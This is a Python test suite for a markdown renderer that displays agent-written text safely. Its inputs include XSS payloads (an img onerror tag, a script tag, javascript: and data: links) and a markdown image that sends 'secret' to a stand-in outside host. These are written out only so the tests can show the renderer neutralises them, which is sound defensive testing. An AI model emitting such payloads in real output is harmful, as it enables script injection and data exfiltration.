"""What the agent writes is shown, never run."""

from hypothesis import given
from hypothesis import strategies as st

from joule.web.markdown import LiveText, Renderer

RENDERER = Renderer()


def whole(text: str) -> str:
    return "".join(str(each.html) for each in RENDERER.blocks(text))


def streamed(pieces: list[str]) -> str:
    live = LiveText(renderer=RENDERER)
    page: list[str] = []
    for piece in pieces:
        for each in live.grow(piece):
            assert each.is_new == (each.index >= len(page))
            page[each.index :] = [str(each.block.html)]
    return "".join(page)


def test_html_is_shown_as_text() -> None:
    html = whole("<img src=x onerror=alert(1)> <script>alert(1)</script>")

    assert "<img" not in html
    assert "<script" not in html
    assert "&lt;img src=x" in html


def test_a_picture_is_not_loaded() -> None:
    html = whole("![secret](https://elsewhere.example/?q=secret)")

    assert "<img" not in html


def test_a_link_that_runs_something_is_no_link() -> None:
    html = whole("[a](javascript:alert(1)) [b](data:text/html,x) [good](https://example.com)")

    assert "javascript:" not in html.replace("[a](javascript:alert(1))", "")
    assert 'href="data:' not in html
    assert 'href="https://example.com"' in html
    assert 'rel="noopener noreferrer"' in html


def test_a_table_is_a_block_of_its_own() -> None:
    blocks = RENDERER.blocks("Figures:\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nDone.")

    assert [each.is_table for each in blocks] == [False, True, False]
    assert "<td>1</td>" in blocks[1].html


def test_a_stream_ends_as_the_whole_text_would() -> None:
    text = "# Title\n\nSome *words* here.\n\n- one\n- two\n\n```python\nprint('<b>')\n\nmore\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nEnd."

    assert streamed(list(text)) == whole(text)


def test_only_the_last_block_is_rendered_again() -> None:
    live = LiveText(renderer=RENDERER)
    live.grow("First.\n\nSecond.\n\nThird")

    written = live.grow(" goes on")

    assert [(each.index, each.is_new) for each in written] == [(2, False)]


@given(st.lists(st.text(alphabet="ab *_`#-|>\n[]()!<1.", max_size=12), max_size=20))
def test_no_stream_makes_a_tag_that_is_not_allowed(pieces: list[str]) -> None:
    page = streamed(pieces)

    assert "<img" not in page
    assert "<script" not in page
